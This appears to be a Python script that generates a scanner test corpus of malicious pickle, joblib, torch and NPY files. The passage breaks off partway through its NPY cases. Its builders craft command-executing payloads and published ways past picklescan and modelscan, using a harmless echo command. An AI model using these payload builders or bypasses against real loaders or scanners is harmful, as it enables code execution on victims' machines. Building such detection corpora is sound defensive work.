#!/usr/bin/env python3
"""Writes test/fixtures/scan-corpus: malicious and benign pickle-based files, and expected.json.

Run with Debian's python3 (torch, scikit-learn, joblib, numpy):  /usr/bin/python3 scripts/make-scan-corpus.py
(with --add-compressed it writes only the bz2/xz/lzma cases and merges them into expected.json).

Malicious files cover what issue 12 lists: every opcode that can start a stream, streams
after the first STOP, compressed joblib (zlib, gzip, bz2, xz, lzma), tar-format and
duplicate-member zip checkpoints, safetensors look-alikes, memo/stack corner cases, dotted
names through allow-listed modules, re-exports, _compat_pickle names, callables that run
commands or code, copyreg extension codes, NPY/NPZ header tricks; and the bypass shapes
published against picklescan and modelscan (non-standard extensions, nested zips,
STACK_GLOBAL from the memo, INST/OBJ/NEWOBJ, proto-0 text, duplicate zip members).

The ORACLE is CPython's own pure-Python unpickler (pickle._Unpickler, as joblib uses it)
with find_class replaced by a recorder: it applies CPython's _compat_pickle mapping
exactly as find_class does, records the (module, name) CPython would import, and returns
an inert stub class. The stub makes REDUCE, NEWOBJ, BUILD, APPEND(S), SETITEM(S) and
persistent ids inert: no payload is ever imported or called. Payloads are built either by
hand (opcode bytes) or by pickling an object whose __reduce__ returns a reference to the
callable (pickling a reference does not call it).
"""
import bz2
import copyreg
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
import _compat_pickle

import numpy as np

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'test', 'fixtures', 'scan-corpus')
CMD = 'echo scan-corpus-payload'
entries = []


# --- the oracle ------------------------------------------------------------------------------

class Stub:
    """Whatever the pickle imports: constructing, calling, building or filling it does nothing."""
    def __init__(self, *args, **kwargs):
        pass

    def __call__(self, *args, **kwargs):
        return Stub()

    # Static, so BUILD on an imported class (not an instance) is as inert as on an instance.
    __setstate__ = staticmethod(lambda *args: None)

    def __setitem__(self, key, value):
        pass

    def append(self, item):
        pass

    def extend(self, items):
        pass

    def add(self, item):
        pass


class Recorder(pickle._Unpickler):
    def __init__(self, f, seen):
        super().__init__(f, encoding='latin1')
        self.seen = seen

    def find_class(self, module, name):
        # Exactly CPython's find_class up to the import, which is replaced by a record.
        if self.proto < 3 and self.fix_imports:
            if (module, name) in _compat_pickle.NAME_MAPPING:
                module, name = _compat_pickle.NAME_MAPPING[(module, name)]
            elif module in _compat_pickle.IMPORT_MAPPING:
                module = _compat_pickle.IMPORT_MAPPING[module]
        self.seen.append('%s.%s' % (module, name))
        return type('Stub', (Stub,), {})

    def persistent_load(self, pid):
        # A class, not an instance: legacy torch returns classes here (module containers) as well as storages.
        return type('Stub', (Stub,), {})


def oracle(data, max_streams=64):
    """Loads every stream of `data` with the recorder; returns what it imported and how it ended."""
    seen, f, streams, error = [], io.BytesIO(data), 0, None
    while f.tell() < len(data) and streams < max_streams:
        try:
            Recorder(f, seen).load()
            streams += 1
        except Exception as e:  # the stream ends or breaks here, as it would for CPython
            error = '%s: %s' % (type(e).__name__, str(e)[:120])
            break
    return {'imports': seen, 'streams': streams, **({'error': error} if error else {})}


# --- opcode helpers --------------------------------------------------------------------------

def su(s):
    b = s.encode('utf-8')
    return b'\x8c' + bytes([len(b)]) + b


def bu(s):
    b = s.encode('utf-8')
    return b'X' + struct.pack('<I', len(b)) + b


def s0(s):
    return b"S'" + s.encode('latin1').replace(b"'", b"\\'") + b"'\n"


def glob(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def sglob(module, name):
    return su(module) + su(name) + b'\x93'


def p0_call(module, name, arg=CMD):
    return glob(module, name) + b'(' + s0(arg) + b'tR.'


def p2_call(module, name, arg=CMD):
    return b'\x80\x02' + glob(module, name) + bu(arg) + b'\x85R.'


def p4_call(module, name, arg=CMD):
    body = sglob(module, name) + b'\x94' + su(arg) + b'\x85R.'
    return b'\x80\x04\x95' + struct.pack('<Q', len(body)) + body


def inst_call(module, name, arg=CMD):
    return b'(' + s0(arg) + b'i' + module.encode() + b'\n' + name.encode() + b'\n.'


def obj_call(module, name, arg=CMD):
    return b'\x80\x01(' + glob(module, name) + bu(arg) + b'o.'


def newobj_call(module, name, arg=CMD):
    return b'\x80\x02' + glob(module, name) + bu(arg) + b'\x85\x81.'


FORMS = {'p0': p0_call, 'p2': p2_call, 'p4': p4_call, 'inst': inst_call, 'obj': obj_call, 'newobj': newobj_call}


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


# --- writing ---------------------------------------------------------------------------------

def add(label, kind, name, data, payload=None, oracle_data=None, oracle_result=None, note=None, legacy=False):
    path = os.path.join(ROOT, label, name)
    with open(path, 'wb') as f:
        f.write(data)
    entry = {'file': '%s/%s' % (label, name), 'label': label, 'kind': kind}
    if payload:
        entry['payload'] = payload
    if note:
        entry['note'] = note
    if oracle_result is None and oracle_data is not None:
        oracle_result = oracle(oracle_data, 5 if legacy else 64)
    if oracle_result is not None:
        entry['oracle'] = oracle_result
        if label == 'malicious' and payload and payload not in oracle_result['imports']:
            raise SystemExit('%s: the oracle did not see %s (saw %s)' % (name, payload, oracle_result['imports']))
    entries.append(entry)


def mal(kind, name, data, payload, **kw):
    add('malicious', kind, name, data, payload, oracle_data=kw.pop('oracle_data', data), **kw)


def benign(kind, name, data, **kw):
    add('benign', kind, name, data, oracle_result=oracle_for(data), **kw)


def oracle_for(data):
    """
    What the recorder sees where a loader would unpickle: zip .pkl members, NPY object data,
    zlib/gzip/bz2/xz/lzma content, else the bytes. joblib files stop at their first inline array (a
    KeyError or bad opcode): the plain recorder does not read joblib's raw array data.
    """
    if data[:4] == b'PK\x03\x04':
        z = zipfile.ZipFile(io.BytesIO(data))
        seen, streams, errors = [], 0, []
        for info in z.infolist():
            member = z.read(info.filename)
            if info.filename.endswith('.pkl'):
                r = oracle(member)
            elif member[:6] == b'\x93NUMPY':
                r = oracle_for(member)
            else:
                continue
            seen += r['imports']
            streams += r['streams']
            if 'error' in r:
                errors.append('%s: %s' % (info.filename, r['error']))
        return {'imports': seen, 'streams': streams, **({'error': '; '.join(errors)} if errors else {})}
    if data[:6] == b'\x93NUMPY':
        f = io.BytesIO(data)
        version = np.lib.format.read_magic(f)
        shape, fortran, dtype = np.lib.format._read_array_header(f, version)
        return oracle(data[f.tell():], 1) if dtype.hasobject else {'imports': [], 'streams': 0}
    if data[:2] == b'\x1f\x8b':
        return oracle(gzip.decompress(data))
    if data[:1] == b'\x78':
        return oracle(zlib.decompress(data))
    # joblib's own prefixes for bz2, xz and lzma.
    if data[:2] == b'BZ':
        return oracle(bz2.decompress(data))
    if data[:6] == b'\xfd7zXZ\x00':
        return oracle(lzma.decompress(data, lzma.FORMAT_XZ))
    if data[:2] == b']\x00':
        return oracle(lzma.decompress(data, lzma.FORMAT_ALONE))
    legacy = data[:2] == b'\x80\x02' and data[2:4] == b'\x8a\x0a'
    return oracle(data, 5 if legacy else 64)


# --- malicious -------------------------------------------------------------------------------

def classic():
    targets = [
        ('os', 'system'), ('posix', 'system'), ('nt', 'system'), ('subprocess', 'Popen'), ('subprocess', 'check_output'),
        ('subprocess', 'run'), ('subprocess', 'call'), ('builtins', 'eval'), ('builtins', 'exec'), ('builtins', 'compile'),
        ('builtins', '__import__'), ('builtins', 'getattr'), ('builtins', 'open'), ('pty', 'spawn'), ('runpy', 'run_path'),
        ('webbrowser', 'open'), ('socket', 'create_connection'), ('shutil', 'rmtree'), ('pickle', 'loads'), ('marshal', 'loads'),
        ('types', 'FunctionType'), ('importlib', 'import_module'), ('ctypes', 'CDLL'), ('code', 'InteractiveInterpreter'),
        ('timeit', 'timeit'), ('platform', 'popen'), ('torch', 'load'), ('numpy', 'load'), ('joblib', 'load'),
        ('pandas', 'read_pickle'), ('operator', 'attrgetter'), ('functools', 'partial'), ('asyncio', 'create_subprocess_shell'),
        ('_posixsubprocess', 'fork_exec'), ('os', 'execv'), ('os', 'popen'), ('sys', 'exit'), ('requests', 'get'),
        ('urllib.request', 'urlopen'), ('http.client', 'HTTPConnection'),
    ]
    forms = list(FORMS)
    for i, (m, n) in enumerate(targets):
        for form in (forms[i % len(forms)], forms[(i + 3) % len(forms)]):
            mal('classic-' + form, 'classic-%s-%s-%s.pkl' % (m.replace('.', '_'), n, form), FORMS[form](m, n), '%s.%s' % (m, n))


def warned_callables():
    """Callables that run commands or code and had only a warning before."""
    for m, n in [('pydoc', 'pipepager'), ('cProfile', 'run'), ('profile', 'run'), ('trace', 'Trace'), ('idlelib.calltip', 'get_entity'),
                 ('idlelib.run', 'Executive'), ('lib2to3.pgen2.pgen', 'generate_grammar'), ('logging.config', 'dictConfig'),
                 ('logging.config', 'listen'), ('uuid', '_get_command_stdout'), ('ensurepip', '_run_pip'),
                 ('torch.utils.cpp_extension', 'load_inline'), ('doctest', 'debug_script'), ('distutils.spawn', 'spawn'),
                 ('zipimport', 'zipimporter'), ('pdb', 'run'), ('bdb', 'Bdb'), ('code', 'interact'), ('tempfile', 'mkdtemp'),
                 ('shelve', 'open')]:
        mal('warned-callable', 'warned-%s-%s.pkl' % (m.replace('.', '_'), n), p4_call(m, n), '%s.%s' % (m, n))
    # trace.Trace.runctx through a protocol 4 dotted name.
    mal('warned-callable', 'warned-trace-runctx-dotted.pkl', p4_call('trace', 'Trace.runctx'), 'trace.Trace.runctx')


def dotted_and_reexports():
    """Allow-listed module prefixes with protocol 4 getattr chains, and re-exports of dangerous callables."""
    for m, n, via in [('numpy.random', '_pickle.pickle.loads', None), ('torch', 'serialization.pickle.loads', None),
                      ('torch', 'serialization.os.system', None), ('collections', 'OrderedDict.__init__.__globals__', None),
                      ('torch._utils', '_rebuild_tensor_v2.__globals__', None), ('numpy', 'core.multiarray._reconstruct.__self__', None),
                      ('torch.nn.modules.linear', 'Linear.__init__.__globals__', None), ('sklearn.linear_model._logistic', 'LogisticRegression.fit', None),
                      ('builtins', 'set.__subclasses__', None), ('collections', 'abc.sys.modules', None)]:
        mal('dotted-name', 'dotted-%s-%s.pkl' % (m.replace('.', '_'), n.replace('.', '_')), p4_call(m, n), '%s.%s' % (m, n))
    for m, n in [('joblib.parallel', 'loads'), ('numpy.lib', 'load'), ('tarfile', 'bltn_open'), ('numpy.lib.npyio', 'load'),
                 ('torch.serialization', 'load'), ('sklearn.utils._joblib', 'load'), ('sklearn.datasets._rcv1', 'GzipFile'),
                 ('sklearn.utils._joblib', 'Memory'), ('numpy.testing._private.utils', 'runstring'), ('torch.hub', 'load'),
                 ('torch.storage', '_load_from_bytes'), ('sklearn.utils.discovery', 'Path'), ('numpy.ctypeslib', 'load_library'),
                 ('torch.jit', 'load'), ('torch._ops', 'ops')]:
        mal('re-export', 'reexport-%s-%s.pkl' % (m.replace('.', '_'), n), p2_call(m, n), '%s.%s' % (m, n))
    # _compat_pickle: Python 2 names that protocol 0-2 unpickling maps to dangerous callables.
    for m, n, resolved in [('cStringIO', 'open', 'io.open'), ('__builtin__', 'eval', 'builtins.eval'), ('__builtin__', 'execfile', 'builtins.execfile'),
                           ('commands', 'getoutput', 'subprocess.getoutput'), ('__builtin__', 'file', 'builtins.file'),
                           ('copy_reg', '_reconstructor', 'copyreg._reconstructor'), ('urllib2', 'urlopen', 'urllib.request.urlopen'),
                           ('cPickle', 'loads', 'pickle.loads'), ('__builtin__', 'raw_input', 'builtins.raw_input'), ('dbm', 'open', 'dbm.ndbm.open')]:
        if resolved == 'copyreg._reconstructor':
            # _reconstructor with os.system as the class: base.__init__ ... the allow-listed helper calling a dangerous class.
            data = glob('copy_reg', '_reconstructor') + b'(' + glob('os', 'system') + glob('__builtin__', 'object') + b'NtR.'
            mal('compat-pickle', 'compat-copy_reg-reconstructor-os-system.pkl', data, 'os.system')
        else:
            mal('compat-pickle', 'compat-%s-%s.pkl' % (m, n), p0_call(m, n), resolved)


def stream_starts():
    """A stream needs no PROTO header: every opcode that can start one, under names loaders accept."""
    payload = sglob('os', 'system') + su(CMD) + b'\x85R'
    starts = {
        'FRAME': lambda body: b'\x95' + struct.pack('<Q', len(body)) + body,
        'SHORT_BINUNICODE': lambda body: su('x') + b'0' + body,
        'NEWTRUE': lambda body: b'\x88' + b'0' + body,
        'NEWFALSE': lambda body: b'\x89' + b'0' + body,
        'MARK': lambda body: b'(' + b'1' + body,
        'EMPTY_DICT': lambda body: b'}' + b'0' + body,
        'EMPTY_LIST': lambda body: b']' + b'0' + body,
        'EMPTY_TUPLE': lambda body: b')' + b'0' + body,
        'EMPTY_SET': lambda body: b'\x8f' + b'0' + body,
        'NONE': lambda body: b'N' + b'0' + body,
        'BININT1': lambda body: b'K\x07' + b'0' + body,
        'BININT': lambda body: b'J\x01\x00\x00\x00' + b'0' + body,
        'BININT2': lambda body: b'M\x01\x00' + b'0' + body,
        'LONG1': lambda body: b'\x8a\x01\x05' + b'0' + body,
        'BINFLOAT': lambda body: b'G' + struct.pack('>d', 1.5) + b'0' + body,
        'SHORT_BINBYTES': lambda body: b'C\x01x' + b'0' + body,
        'BINUNICODE8': lambda body: b'\x8d' + struct.pack('<Q', 1) + b'x' + b'0' + body,
        'MEMOIZE-after-DUP': lambda body: b'N2\x94' + b'00' + body,
        'INT': lambda body: b'I5\n' + b'0' + body,
        'STRING': lambda body: s0('x') + b'0' + body,
        'UNICODE': lambda body: b'Vx\n' + b'0' + body,
        'FLOAT': lambda body: b'F1.5\n' + b'0' + body,
        'GLOBAL': lambda body: glob('os', 'system') + su(CMD) + b'\x85R.',
        'PERSID': lambda body: b'Pid\n' + b'0' + body,
    }
    exts = ['.bin', '.dat', '', '.model', '.sav', '.p', '.pkl', '.pickle']
    for i, (op, make) in enumerate(starts.items()):
        data = make(payload + b'.') if op != 'GLOBAL' else make(b'')
        ext = exts[i % len(exts)]
        mal('stream-start', 'start-%s%s' % (op.lower(), ext), data, 'os.system')
    # Protocol 0 text pickles under .bin/.dat (no header at all).
    mal('stream-start', 'proto0-posix-system.bin', p0_call('posix', 'system'), 'posix.system')
    mal('stream-start', 'proto0-eval.dat', p0_call('builtins', 'eval', '1+1'), 'builtins.eval')


def second_streams():
    """Payloads after the first STOP: pickle.load called again, and the legacy torch format's five streams."""
    first = pickle.dumps({'weights': [1.0, 2.0]}, protocol=2)
    mal('second-stream', 'second-stream-p4.pkl', first + p4_call('os', 'system'), 'os.system')
    mal('second-stream', 'second-stream-noproto.bin', first + glob('subprocess', 'check_output') + b'(' + s0('id') + b'tR.', 'subprocess.check_output')
    mal('second-stream', 'third-stream.pkl', first + first + p2_call('builtins', 'exec', 'print(1)'), 'builtins.exec')
    many = first * 64 + p2_call('os', 'system')
    mal('second-stream', 'stream-65.pkl', many, 'os.system', oracle_result=oracle(many, 70))
    import torch
    buf = io.BytesIO()
    torch.save({'w': torch.zeros(2)}, buf, _use_new_zipfile_serialization=False)
    legacy = buf.getvalue()
    # The legacy file is five pickles then raw storages: put the payload in each position in turn.
    f = io.BytesIO(legacy)
    bounds = [0]
    for _ in range(5):
        Recorder(f, []).load()
        bounds.append(f.tell())
    for k in range(5):
        # Stream k replaced by the payload; for the first, torch.load unpickles it before checking the magic number.
        data = legacy[:bounds[k]] + p2_call('os', 'system') + legacy[bounds[k + 1]:]
        mal('legacy-torch', 'legacy-torch-stream%d.pt' % (k + 1), data, 'os.system', legacy=True)
    mal('legacy-torch', 'legacy-torch-stream4.bin', legacy[:bounds[3]] + p4_call('posix', 'system') + legacy[bounds[4]:], 'posix.system', legacy=True)


def compressed():
    import joblib
    tmp = os.path.join(ROOT, '.tmp')
    os.makedirs(tmp, exist_ok=True)
    evil = {'model': 'fine', 'hook': Reduce(os.system, (CMD,))}
    for method, ext in [('zlib', '.joblib'), ('gzip', '.joblib'), ('bz2', '.joblib'), ('xz', '.joblib'), ('lzma', '.joblib'),
                        ('zlib', '.pkl.z'), ('gzip', '.gz'), ('bz2', '.bz2'), ('xz', '.xz'), ('lzma', '.lzma')]:
        path = os.path.join(tmp, 'x' + ext)
        joblib.dump(evil, path, compress=(method, 3))
        data = open(path, 'rb').read()
        raw = {'zlib': zlib.decompress, 'gzip': gzip.decompress, 'bz2': bz2.decompress, 'xz': lzma.decompress, 'lzma': lzma.decompress}[method](data)
        mal('compressed', 'joblib-%s%s' % (method, ext), data, 'posix.system', oracle_data=raw)
    raw = pickle.dumps(Reduce(eval, ('1+1',)), protocol=4)
    mal('compressed', 'gzip-pickle.pkl', gzip.compress(raw), 'builtins.eval', oracle_data=raw)
    mal('compressed', 'zlib-pickle.dat', zlib.compress(raw), 'builtins.eval', oracle_data=raw)
    # joblib picks lzma for any file starting ]\0: a small dictionary makes the header 5d 00 10 00 00.
    small = lzma.compress(raw, format=lzma.FORMAT_ALONE, filters=[{'id': lzma.FILTER_LZMA1, 'dict_size': 4096}])
    assert small[:3] == b'\x5d\x00\x10'
    mal('compressed', 'joblib-lzma-small-dict.joblib', small, 'builtins.eval', oracle_data=raw)
    # joblib's zlib reader starts a new stream where one ends: one pickle split over two zlib streams.
    mal('compressed', 'joblib-zlib-two-streams.joblib', zlib.compress(raw[:7]) + zlib.compress(raw[7:]), 'builtins.eval', oracle_data=raw)
    old = b'ZF' + ('0x%x' % len(raw)).ljust(19).encode() + zlib.compress(raw)
    mal('compressed', 'joblib-zfile-old.pkl', old, 'builtins.eval', oracle_data=raw)
    shutil.rmtree(tmp)


def more_compressed():
    """bz2 and xz as joblib's readers (BZ2File, LZMAFile) take them: streams back to back, other levels and checks."""
    import joblib
    raw = pickle.dumps(Reduce(eval, ('1+1',)), protocol=4)
    # One pickle split over two streams: BZ2File and LZMAFile start a new stream where one ends.
    mal('compressed', 'joblib-bz2-two-streams.joblib', bz2.compress(raw[:7]) + bz2.compress(raw[7:]), 'builtins.eval', oracle_data=raw)
    mal('compressed', 'joblib-xz-two-streams.joblib', lzma.compress(raw[:7]) + lzma.compress(raw[7:]), 'builtins.eval', oracle_data=raw)
    mal('compressed', 'joblib-bz2-level1.joblib', bz2.compress(raw, 1), 'builtins.eval', oracle_data=raw)
    mal('compressed', 'joblib-xz-crc32.joblib', lzma.compress(raw, check=lzma.CHECK_CRC32), 'builtins.eval', oracle_data=raw)
    mal('compressed', 'joblib-xz-no-check.joblib', lzma.compress(raw, check=lzma.CHECK_NONE), 'builtins.eval', oracle_data=raw)
    # Under names pickle/joblib loaders take but that say nothing of compression.
    mal('compressed', 'bz2-pickle.dat', bz2.compress(raw), 'builtins.eval', oracle_data=raw)
    mal('compressed', 'xz-pickle.model', lzma.compress(raw), 'builtins.eval', oracle_data=raw)
    tmp = os.path.join(ROOT, '.tmp')
    os.makedirs(tmp, exist_ok=True)
    evil = {'model': 'fine', 'hook': Reduce(os.system, (CMD,))}
    # The largest preset: a 64 MiB dictionary.
    path = os.path.join(tmp, 'x9.joblib')
    joblib.dump(evil, path, compress=('xz', 9))
    data = open(path, 'rb').read()
    mal('compressed', 'joblib-xz-level9.joblib', data, 'posix.system', oracle_data=lzma.decompress(data))
    shutil.rmtree(tmp)


def benign_compressed_models():
    """scikit-learn models as joblib.dump(compress=('bz2'|'xz'|'lzma', 3)) writes them."""
    import joblib
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    X, y = load_iris(return_X_y=True)
    estimators = {'logreg': LogisticRegression(max_iter=200), 'forest': RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0),
                  'pipeline': make_pipeline(StandardScaler(), LogisticRegression(max_iter=200))}
    tmp = os.path.join(ROOT, '.tmp')
    os.makedirs(tmp, exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        for name, est in estimators.items():
            est.fit(X, y)
            for method in ('bz2', 'xz', 'lzma'):
                path = os.path.join(tmp, name)
                joblib.dump(est, path, compress=(method, 3))
                benign('sklearn-joblib', 'sklearn-%s-%s.joblib' % (name, method), open(path, 'rb').read())
    shutil.rmtree(tmp)


def archives():
    import torch
    buf = io.BytesIO()
    torch.save({'w': torch.arange(4.0)}, buf)
    good = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    members = [(i.filename, good.read(i.filename)) for i in good.infolist()]
    prefix = members[0][0].split('/')[0]
    evil = p2_call('os', 'system')

    def rezip(entries, compression=zipfile.ZIP_STORED):
        out = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter('ignore')
            with zipfile.ZipFile(out, 'w', compression) as z:
                for n, d in entries:
                    z.writestr(n, d)
        return out.getvalue()

    mal('zip', 'zip-duplicate-first.pt', rezip([(prefix + '/data.pkl', evil)] + members), 'os.system', oracle_data=evil)
    mal('zip', 'zip-duplicate-last.pt', rezip(members + [(prefix + '/data.pkl', evil)]), 'os.system', oracle_data=evil)
    mal('zip', 'zip-deflated-data.pt', rezip([(n, evil if n.endswith('data.pkl') else d) for n, d in members], zipfile.ZIP_DEFLATED), 'os.system', oracle_data=evil)
    mal('zip', 'zip-odd-member-name.pt', rezip(members + [(prefix + '/constants.pkl', evil)]), 'os.system', oracle_data=evil)
    mal('zip', 'zip-member-no-extension.bin', rezip(members + [(prefix + '/extra', evil)]), 'os.system', oracle_data=evil)
    mal('zip', 'zip-as-dat.dat', rezip([(n, evil if n.endswith('data.pkl') else d) for n, d in members]), 'os.system', oracle_data=evil)
    mal('zip', 'zip-nested-dirs.pth', rezip([('a/b/c/data.pkl', evil), ('a/b/c/version', b'3\n')]), 'os.system', oracle_data=evil)
    noproto = glob('os', 'system') + b'(' + s0(CMD) + b'tR.'
    mal('zip', 'zip-noproto-member.pt', rezip([(n, noproto if n.endswith('data.pkl') else d) for n, d in members]), 'os.system', oracle_data=noproto)

    # torch < 0.4 tar checkpoints: sys_info, pickle, storages, tensors.
    def tar(entries):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode='w', format=tarfile.PAX_FORMAT) as t:
            for n, d in entries:
                info = tarfile.TarInfo(n)
                info.size = len(d)
                t.addfile(info, io.BytesIO(d))
        return out.getvalue()

    sys_info = pickle.dumps({'protocol_version': 1001, 'little_endian': True}, protocol=2)
    mal('tar', 'tar-torch-pickle.pt', tar([('sys_info', sys_info), ('pickle', evil), ('storages', pickle.dumps(0, protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]), 'os.system', oracle_data=evil)
    mal('tar', 'tar-torch-storages.pth', tar([('sys_info', sys_info), ('pickle', pickle.dumps({}, protocol=2)), ('storages', evil), ('tensors', pickle.dumps(0, protocol=2))]), 'os.system', oracle_data=evil)
    mal('tar', 'tar-torch-tensors.tar', tar([('sys_info', sys_info), ('pickle', pickle.dumps({}, protocol=2)), ('storages', pickle.dumps(0, protocol=2)), ('tensors', p4_call('builtins', 'exec'))]), 'builtins.exec', oracle_data=p4_call('builtins', 'exec'))
    # A tar whose first member name is itself a pickle: torch.load reads a tar, pickle.load and joblib.load the raw bytes.
    name = "cos\nsystem\n(S'%s'\ntR." % CMD
    mal('tar', 'tar-name-is-pickle.pkl', tar([(name, b'x')]), 'os.system', oracle_data=tar([(name, b'x')]))
    mal('tar', 'tar-torch-sys-info.bin', tar([('sys_info', evil), ('pickle', pickle.dumps({}, protocol=2)), ('storages', pickle.dumps(0, protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]), 'os.system', oracle_data=evil)


def safetensors_lookalikes():
    """Files whose first 8 bytes read as a small safetensors header length followed by '{', but that are pickles."""
    for ext, target in [('.safetensors', ('os', 'system')), ('.bin', ('subprocess', 'Popen')), ('', ('builtins', 'eval'))]:
        text = '\0\0\0{"a": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}}'
        body = bu(text)  # BINUNICODE: 'X', a 4-byte length, then the text: bytes 5..7 are the zero high bytes.
        payload = b'0' + sglob(*target) + su(CMD) + b'\x85R.'
        n = struct.unpack('<Q', body[:8])[0]
        data = body + payload
        data += b' ' * max(0, 8 + n - len(data))
        assert data[8:9] == b'{' and 8 + n <= len(data)
        mal('safetensors-lookalike', 'lookalike-%s%s' % (target[1], ext or '-noext'), data, '%s.%s' % target)


def memo_and_stack():
    big, near = 9007199254740993, 9007199254740992  # equal once rounded to a double
    data = (b'(' + s0('os') + b'p%d\n0' % big + s0('torch') + b'p%d\n0' % near + b'0' + b'\x80\x04' + b'g%d\n' % big
            + su('system') + b'\x93' + su(CMD) + b'\x85R.')
    mal('memo', 'memo-long-key.joblib', data, 'os.system', note='pickle.py (joblib) keeps any int key; the C unpickler refuses keys this large')
    data = b'\x80\x04' + su('os') + b'r\x00\x00\x00\x01' + b'0' + su('torch') + b'r\x00\x00\x00\x00' + b'0' + b'j\x00\x00\x00\x01' + su('system') + b'\x93' + su(CMD) + b'\x85R.'
    mal('memo', 'memo-long-binput.pkl', data, 'os.system')
    # MEMOIZE stores at len(memo), overwriting a PUT key.
    data = b'\x80\x04' + su('torch') + b'q\x01' + b'0' + su('os') + b'\x94' + b'0' + b'h\x01' + su('system') + b'\x93' + su(CMD) + b'\x85R.'
    mal('memo', 'memoize-overwrites-put.pkl', data, 'os.system')
    data = b'\x80\x04' + su('os') + b'p 7\n' + b'0' + b'g0_7\n' + su('system') + b'\x93' + su(CMD) + b'\x85R.'
    mal('memo', 'memo-key-spellings.pkl', data, 'os.system')
    # STACK_GLOBAL names from DUP and from the memo through nested marks.
    data = b'\x80\x04(' + su('os') + b'\x94' + b'1' + b'h\x00' + su('system') + b'\x93' + su(CMD) + b'\x85R.'
    mal('memo', 'memo-under-popped-mark.pkl', data, 'os.system')
    data = b'\x80\x04' + su('posix') + b'2' + b'0' + su('system') + b'\x93' + su(CMD) + b'\x85R.'
    mal('memo', 'dup-pop-stack-global.pkl', data, 'posix.system')
    # POP on a MARK with nothing above it pops the MARK (as load_pop does).
    data = b'\x80\x04' + su('os') + b'(0' + su('system') + b'\x93' + su(CMD) + b'\x85R.'
    mal('memo', 'pop-pops-mark.pkl', data, 'os.system')
    # STRING escapes: octal and hex spell the module (protocol 0 STRING, then STACK_GLOBAL in protocol 4).
    data = b"S'\\157s'\n" + b"S'\\x73ystem'\n" + b'\x80\x04\x93' + su(CMD) + b'\x85R.'
    mal('escapes', 'string-escapes-octal-hex.pkl', data, 'os.system')
    data = b'V\\u006fs\n' + b'Vsys\\u0074em\n' + b'\x80\x04\x93' + su(CMD) + b'\x85R.'
    mal('escapes', 'unicode-escapes.pkl', data, 'os.system')
    # A computed module name: STACK_GLOBAL of a value built by a call.
    data = b'\x80\x04' + sglob('builtins', 'str') + su('os') + b'\x85R' + su('system') + b'\x93' + su(CMD) + b'\x85R.'
    add('malicious', 'computed', 'stack-global-computed.pkl', data, None, oracle_data=data,
        note='the module name is the result of a call (str("os")); the inert recorder sees only builtins.str, CPython would import os')
    # copyreg extension codes: registered only in the oracle's process, to show what CPython would resolve.
    for op, code, enc in [('EXT1', 0x7f, b'\x82\x7f'), ('EXT2', 0x1234, b'\x83\x34\x12'), ('EXT4', 0x123456, b'\x84\x56\x34\x12\x00')]:
        data = b'\x80\x02' + enc + bu(CMD) + b'\x85R.'
        copyreg.add_extension('os', 'system', code)
        try:
            result = oracle(data)
        finally:
            copyreg.remove_extension('os', 'system', code)
        add('malicious', 'copyreg-extension', 'ext-%s.pkl' % op.lower(), data, None, oracle_result=result,
            note='CPython resolves extension code %d through copyreg; registered as os.system for the oracle only' % code)
    # joblib alignment: the attribute set to None means joblib reads no padding byte.
    wrapper = (glob('joblib.numpy_pickle', 'NumpyArrayWrapper') + b')\x81}(' + bu('subclass') + glob('numpy', 'ndarray')
               + bu('shape') + b'K\x01\x85' + bu('order') + bu('C') + bu('dtype') + glob('numpy', 'dtype') + bu('u1') + b'\x89\x88\x87R'
               + b'(K\x03' + bu('|') + b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb' + bu('allow_mmap') + b'\x89'
               + bu('numpy_array_alignment_bytes') + b'Nub')
    data = b'\x80\x02' + wrapper + b'\x05' + b'0' + glob('os', 'system') + bu(CMD) + b'\x85R.'
    add('malicious', 'joblib-alignment', 'joblib-alignment-none.joblib', data, None,
        note='joblib reads the array byte 0x05 raw (no padding: alignment is None), then the payload; the plain recorder cannot read joblib inline arrays')
    # A repeated 'shape' key: the dict keeps the last value, (1,), so joblib reads one byte; (200,) first would hide the payload.
    dup = wrapper.replace(bu('shape') + b'K\x01\x85', bu('shape') + b'K\xc8\x85' + bu('shape') + b'K\x01\x85')
    assert dup != wrapper
    tail = b'\x05' + b'0' + glob('os', 'system') + bu(CMD) + b'\x85R.'
    # 200 bytes after the BUILD sits a STOP: a first-wins reading skips the payload and ends cleanly there.
    data = b'\x80\x02' + dup + tail + b'N' * (200 - len(tail)) + b'.'
    add('malicious', 'joblib-alignment', 'joblib-duplicate-shape.joblib', data, None,
        note='the state dict repeats shape: Python keeps the last, (1,); a scanner keeping the first skips 200 bytes past the payload')


def npy_tricks():
    payload = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)

    def npy(header_text, data, version=1):
        h = header_text.encode('latin1' if version < 3 else 'utf8')
        pad = 64 - (10 + len(h) + 1) % 64 if version == 1 else 64 - (12 + len(h) + 1) % 64
        h = h + b' ' * pad + b'\n'
        pre = b'\x93NUMPY' + bytes([version, 0]) + (struct.pack('<H', len(h)) if version == 1 else struct.pack('<I', len(h)))
        return pre + h + data

    cases = {
        'plain-O': "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
        'duplicate-descr': "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}",
        'concatenated': "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }",
        'hex-escape': "{'descr': '\\x4f', 'fortran_order': False, 'shape': (1,), }",
        'object-name': "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }",
